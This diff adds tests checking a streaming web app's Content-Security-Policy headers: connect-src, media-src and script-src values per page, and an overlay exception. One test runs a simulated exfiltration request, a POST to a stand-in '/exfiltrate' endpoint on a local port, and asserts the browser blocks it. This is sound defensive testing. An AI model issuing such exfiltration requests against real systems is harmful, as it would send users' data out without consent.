@@ -82,6 +82,38 @@ describe("the web app's security headers", () => {
     expect(await watch.text()).toContain('<div id="root">');
   });
 
+  it("adds exactly the WHEP endpoint's origin to connect-src on the app's documents, and nowhere else", async () => {
+    // WHIP_INGEST_URL is wrangler.toml's http://localhost:8889/whip here; whep_url shares its origin.
+    for (const path of ['/', `/${streamer.channel.name}`, '/directory/just-chatting', '/settings']) {
+      const response = await fetch(`${platform.baseUrl}${path}`);
+      expect(response.status).toBe(200);
+      const csp = readDirectives(response.headers.get('content-security-policy'));
+      expect(csp.get('connect-src'), path).toBe("'self' http://localhost:8889");
+      expect(csp.get('media-src'), path).toBe("'self' blob:");
+      expect(csp.get('script-src'), path).toBe("'self'");
+    }
+    // The OBS overlay plays nothing: still 'self' only.
+    const overlay = await fetch(`${platform.baseUrl}/overlay/chat/${streamer.channel.name}`);
+    expect(readDirectives(overlay.headers.get('content-security-policy')).get('connect-src')).toBe("'self'");
+  });
+
+  it('still blocks a watch page from connecting to any other origin', async () => {
+    const page = await newPage();
+    const readViolations = await recordCspViolations(page);
+    await page.goto(`${platform.baseUrl}/${streamer.channel.name}`);
+    await page.locator('header.top-bar').waitFor();
+    const outcome = await page.evaluate(async () => {
+      try {
+        await fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'x' });
+        return 'sent';
+      } catch {
+        return 'blocked';
+      }
+    });
+    expect(outcome).toBe('blocked');
+    expect(await readViolations()).toContain('connect-src blocked http://127.0.0.1:9/exfiltrate');
+  });
+
   it('lets any site frame the OBS chat overlay, with the same policy otherwise', async () => {
     const overlay = await fetch(`${platform.baseUrl}/overlay/chat/${streamer.channel.name}`);
     expect(overlay.status).toBe(200);
